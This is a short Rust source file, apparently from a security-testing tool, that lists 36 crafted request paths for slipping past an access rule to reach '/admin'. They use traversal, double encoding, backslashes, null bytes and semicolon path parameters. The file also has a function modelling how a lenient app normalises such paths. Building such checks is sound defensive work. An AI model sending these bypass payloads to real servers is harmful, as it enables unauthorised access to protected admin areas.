//! Request targets that two servers may read as two different paths, and the reading of the most careless of them.

/// Each leads to `/admin` in somebody's eyes; `%p` stands for a prefix that is open to everyone.
#[rustfmt::skip]
pub const TRICKS: [&str; 36] = [
    "/%p/../admin/x", "/%p/%2e%2e/admin/x", "/%p/.%2E/admin/x", "/%p/..%2fadmin/x", "/%p/..%2Fadmin/x",
    "/%p/%2e%2e%2fadmin/x", "/%p/..;/admin/x", "/%p/..;a=b/admin/x", "/%p/.%2e;/admin/x", "/%p/%2e%2e;/admin/x",
    "/%p/..%3b/admin/x", "/%p/..\\admin\\x", "/%p/..%5cadmin/x", "/%p/..%5Cadmin%5Cx", "/%p\\..\\admin/x",
    "/%p/%252e%252e/admin/x", "/%p/..%252fadmin/x", "/%p/..//admin/x", "/%p//../admin/x", "/%p/x/../../admin/x",
    "/%p/./../admin/x", "/%p/x#/../../../admin/x", "/%p/..%00/admin/x", "/%p/../admin/x?y=/%p/", "//admin/x",
    "///admin/x", "/./admin/x", "/%61dmin/x", "/admin;x=1/x", "/;x/admin/x", "/admin%2fx", "/admin/%p/../x",
    "/x/..;/admin/x", "/admin%20/../admin/x", "http://localhost/admin/x", "http://localhost/%p/../admin/x",
];

/// Percent-decoded once; what is not an escape stays.
pub fn decode(text: &str) -> String {
    let mut bytes = Vec::new();
    let mut rest = text.as_bytes();
    while let Some((&first, after)) = rest.split_first() {
        let hex = after.get(..2).and_then(|two| std::str::from_utf8(two).ok());
        match hex.and_then(|hex| u8::from_str_radix(hex, 16).ok()) {
            Some(byte) if first == b'%' => {
                bytes.push(byte);
                rest = &after[2..];
            }
            _ => {
                bytes.push(first);
                rest = after;
            }
        }
    }
    String::from_utf8_lossy(&bytes).into_owned()
}

/// A raw target as the most careless app would read it: everything decoded twice, `\` for `/`, path parameters cut, dots resolved.
pub fn as_a_lenient_app_reads(target: &str) -> String {
    let path = target.split(['?', '#']).next().unwrap_or_default();
    let decoded = decode(&decode(path)).replace('\\', "/").replace('\0', "");
    let mut segments = Vec::new();
    for segment in decoded.split('/').map(|segment| segment.split(';').next().unwrap_or_default()) {
        match segment {
            "" | "." => {}
            ".." => {
                segments.pop();
            }
            name => segments.push(name.trim()),
        }
    }
    format!("/{}", segments.join("/"))
}
